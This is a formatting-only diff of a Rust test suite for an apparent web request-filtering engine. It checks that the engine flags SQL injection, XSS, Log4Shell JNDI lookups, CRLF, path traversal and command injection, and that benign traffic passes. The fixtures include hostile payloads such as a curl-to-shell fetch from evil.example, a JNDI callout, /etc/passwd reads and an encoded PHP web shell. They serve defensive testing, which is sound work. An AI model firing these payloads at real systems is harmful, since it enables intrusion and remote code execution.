@@ -74,8 +74,14 @@ fn payloads_in_path_segments() {
     let e = engine();
     for (path, cat) in [
         ("/api/users/1'%20OR%20'1'='1", Category::Sqli),
-        ("/api/users/1%20UNION%20SELECT%20password%20FROM%20users--", Category::Sqli),
-        ("/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E", Category::Xss),
+        (
+            "/api/users/1%20UNION%20SELECT%20password%20FROM%20users--",
+            Category::Sqli,
+        ),
+        (
+            "/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            Category::Xss,
+        ),
         ("/run/%3Bcat%20%2Fetc%2Fpasswd", Category::Rce),
         ("/x/$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D", Category::Jndi),
         ("/page/%7B%7B7*7%7D%7D", Category::Ssti),
@@ -95,19 +101,39 @@ fn payloads_in_any_header() {
     caught(
         Category::Sqli,
         &[
-            req("GET", "/", &[("X-Forwarded-Host", "x' UNION SELECT password FROM users--")], ""),
+            req(
+                "GET",
+                "/",
+                &[("X-Forwarded-Host", "x' UNION SELECT password FROM users--")],
+                "",
+            ),
             req("GET", "/", &[("X-Custom-Id", "1 AND SLEEP(5)")], ""),
-            req("GET", "/", &[("Accept-Language", "en'; WAITFOR DELAY '0:0:5'--")], ""),
+            req(
+                "GET",
+                "/",
+                &[("Accept-Language", "en'; WAITFOR DELAY '0:0:5'--")],
+                "",
+            ),
         ],
     );
     caught(
         Category::Jndi,
-        &[req("GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], "")],
+        &[req(
+            "GET",
+            "/",
+            &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
+            "",
+        )],
     );
     caught(
         Category::Rce,
         &[
-            req("GET", "/", &[("X-Token", "$(curl http://evil.example/x.sh|sh)")], ""),
+            req(
+                "GET",
+                "/",
+                &[("X-Token", "$(curl http://evil.example/x.sh|sh)")],
+                "",
+            ),
             // Struts CVE-2017-5638: OGNL in Content-Type.
             req(
                 "POST",
@@ -118,12 +144,25 @@ fn payloads_in_any_header() {
                 )],
                 "",
             ),
-            req("GET", "/", &[("Content-Type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X',1)}")], ""),
+            req(
+                "GET",
+                "/",
+                &[(
+                    "Content-Type",
+                    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X',1)}",
+                )],
+                "",
+            ),
         ],
     );
     caught(
         Category::Xss,
-        &[req("GET", "/", &[("X-Forwarded-Server", "\"><script>alert(1)</script>")], "")],
+        &[req(
+            "GET",
+            "/",
+            &[("X-Forwarded-Server", "\"><script>alert(1)</script>")],
+            "",
+        )],
     );
 }
 
@@ -163,17 +202,33 @@ fn nested_encodings() {
         // PHP code in a data: URL inclusion.
         &["data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="],
     );
-    caught_args(Category::Sqli, &["%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020users--"]);
+    caught_args(
+        Category::Sqli,
+        &["%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020users--"],
+    );
     caught(
         Category::Lfi,
         &[
             req("GET", "/static/..%c0%af..%c0%af..%c0%afetc/passwd", &[], ""),
-            req("GET", "/download?file=..%25%5c..%25%5c..%25%5cwindows%25%5cwin.ini", &[], ""),
+            req(
+                "GET",
+                "/download?file=..%25%5c..%25%5c..%25%5cwindows%25%5cwin.ini",
+                &[],
+                "",
+            ),
         ],
     );
     caught(
         Category::Sqli,
-        &[req("GET", "/", &[("Cookie", "prefs=JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t")], "")],
+        &[req(
+            "GET",
+            "/",
+            &[(
+                "Cookie",
+                "prefs=JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t",
+            )],
+            "",
+        )],
     );
 }
 
@@ -182,8 +237,18 @@ fn crlf_header_injection() {
     caught(
         Category::Crlf,
         &[
-            req("GET", "/redirect?url=%0d%0aSet-Cookie:%20session=evil", &[], ""),
-            req("GET", "/redirect?url=%250d%250aLocation:%20http://evil.example", &[], ""),
+            req(
+                "GET",
+                "/redirect?url=%0d%0aSet-Cookie:%20session=evil",
+                &[],
+                "",
+            ),
+            req(
+                "GET",
+                "/redirect?url=%250d%250aLocation:%20http://evil.example",
+                &[],
+                "",
+            ),
             req("GET", "/a%250d%250aX-Injected:%201", &[], ""),
             req("GET", "/lang?l=en%u000d%u000aContent-Length:%200", &[], ""),
             req("GET", "/p?x=%0d%0a%0d%0a%3Chtml%3Eowned", &[], ""),
@@ -204,7 +269,12 @@ fn nosql_injection() {
                 &[("Content-Type", "application/json")],
                 r#"{"username":"admin","password":{"$ne":null}}"#,
             ),
-            req("GET", &format!("/find?filter={}", enc(r#"{"$where":"sleep(5000)"}"#)), &[], ""),
+            req(
+                "GET",
+                &format!("/find?filter={}", enc(r#"{"$where":"sleep(5000)"}"#)),
+                &[],
+                "",
+            ),
         ],
     );
     caught_args(
@@ -314,11 +384,20 @@ fn command_injection_shapes() {
     // A single `&` splits the query, so the command arrives as an argument name.
     caught(
         Category::Rce,
-        &[req("GET", "/status?host=x&ping%20-n%2025%20127.0.0.1&", &[], "")],
+        &[req(
+            "GET",
+            "/status?host=x&ping%20-n%2025%20127.0.0.1&",
+            &[],
+            "",
+        )],
     );
     caught_args(
         Category::Lfi,
-        &["C:\\inetpub\\wwwroot\\global.asa", "c:/windows/win.ini", "..\\..\\web.config"],
+        &[
+            "C:\\inetpub\\wwwroot\\global.asa",
+            "c:/windows/win.ini",
+            "..\\..\\web.config",
+        ],
     );
 }
 
@@ -346,13 +425,19 @@ fn sql_shapes_sqlmap_got_through() {
             req(
                 "GET",
                 "/",
-                &[("User-Agent", "x';IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION abc--")],
+                &[(
+                    "User-Agent",
+                    "x';IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION abc--",
+                )],
                 "",
             ),
             req(
                 "GET",
                 "/",
-                &[("Referer", "http://x/';IF(1=1) SELECT 1 ELSE DROP FUNCTION f--")],
+                &[(
+                    "Referer",
+                    "http://x/';IF(1=1) SELECT 1 ELSE DROP FUNCTION f--",
+                )],
                 "",
             ),
         ],
@@ -368,14 +453,52 @@ fn hard_benign_traffic_passes() {
     let soap = r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetPrice xmlns="http://shop.example/"><Item lang="de">Äpfel &amp; Birnen (1 kg)</Item><Note>O'Reilly's "best" book</Note></GetPrice></soap:Body></soap:Envelope>"#;
     let json_api = r##"{"user":{"name":"José O'Neil","bio":"Loves SQL & Rust, C# and the (select) few","tags":["c++","c#"],"$schema":"https://json-schema.org/draft/2020-12/schema","$ref":"#/defs/a","$type":"Shop.Order, Shop"}}"##;
     clean(&[
-        req("GET", "/", &[("Authorization", &format!("Bearer {jwt}"))], ""),
+        req(
+            "GET",
+            "/",
+            &[("Authorization", &format!("Bearer {jwt}"))],
+            "",
+        ),
         req("GET", &format!("/checkout?state={b64_json}"), &[], ""),
-        req("GET", &format!("/cb?id_token={jwt}&code=4%2F0AX4XfWh"), &[], ""),
-        req("GET", "/", &[("Cookie", &format!("session={jwt}; cart={b64_json}; _ga=GA1.2.1234567890.1700000000"))], ""),
-        req("POST", "/graphql", &[("Content-Type", "application/json")], gql),
-        req("POST", "/graphql", &[("Content-Type", "application/json")], gql_mutation),
-        req("POST", "/ws", &[("Content-Type", "application/soap+xml; charset=utf-8")], soap),
-        req("POST", "/api/users", &[("Content-Type", "application/json")], json_api),
+        req(
+            "GET",
+            &format!("/cb?id_token={jwt}&code=4%2F0AX4XfWh"),
+            &[],
+            "",
+        ),
+        req(
+            "GET",
+            "/",
+            &[(
+                "Cookie",
+                &format!("session={jwt}; cart={b64_json}; _ga=GA1.2.1234567890.1700000000"),
+            )],
+            "",
+        ),
+        req(
+            "POST",
+            "/graphql",
+            &[("Content-Type", "application/json")],
+            gql,
+        ),
+        req(
+            "POST",
+            "/graphql",
+            &[("Content-Type", "application/json")],
+            gql_mutation,
+        ),
+        req(
+            "POST",
+            "/ws",
+            &[("Content-Type", "application/soap+xml; charset=utf-8")],
+            soap,
+        ),
+        req(
+            "POST",
+            "/api/users",
+            &[("Content-Type", "application/json")],
+            json_api,
+        ),
         req(
             "GET",
             "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw8MG1BhCoARIsAHxSiQnQm3kZ0c9fXw1-rJ8yT2d3VxK4bB6aEhp7hR9sLw0a8wYq5aAkZmEALw_wcB&fbclid=IwAR2F4-dQ_3m0xYbP4jK1nH6vZ8tL5rS9uW2eQ7cA0gD3fB1iM&mc_eid=5f2b8c9d0e",
@@ -386,14 +509,23 @@ fn hard_benign_traffic_passes() {
             "GET",
             "/",
             &[
-                ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+                (
+                    "Accept",
+                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+                ),
                 ("Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
                 ("Accept-Encoding", "gzip, deflate, br"),
-                ("sec-ch-ua", "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\""),
+                (
+                    "sec-ch-ua",
+                    "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"",
+                ),
                 ("sec-ch-ua-platform", "\"Windows\""),
                 ("If-None-Match", "W/\"5e-1a2b3c\""),
                 ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
-                ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
+                (
+                    "traceparent",
+                    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
+                ),
                 ("X-Request-Id", "f058ebd6-02f7-4d3f-942e-904344e8cde5"),
                 ("X-Api-Key", "sk_live_51HqLyjWDarjtT1zdp7dcXw"),
                 ("Prefer", "return=minimal; wait=10"),
@@ -406,7 +538,12 @@ fn hard_benign_traffic_passes() {
         req("GET", "/wiki/C%2B%2B_(programming_language)", &[], ""),
         req("GET", "/files/report%20(1).pdf", &[], ""),
         req("GET", "/users/o'brien/profile", &[], ""),
-        req("GET", "/blog/2024/05/%E4%BD%A0%E5%A5%BD-%E4%B8%96%E7%95%8C", &[], ""),
+        req(
+            "GET",
+            "/blog/2024/05/%E4%BD%A0%E5%A5%BD-%E4%B8%96%E7%95%8C",
+            &[],
+            "",
+        ),
         req("GET", "/api/v1/items/UHJvZHVjdDoxMjM=", &[], ""),
         arg("Привет, как дела? Выберите (select) товар из списка"),
         arg("مرحبا بالعالم - اختر من القائمة"),
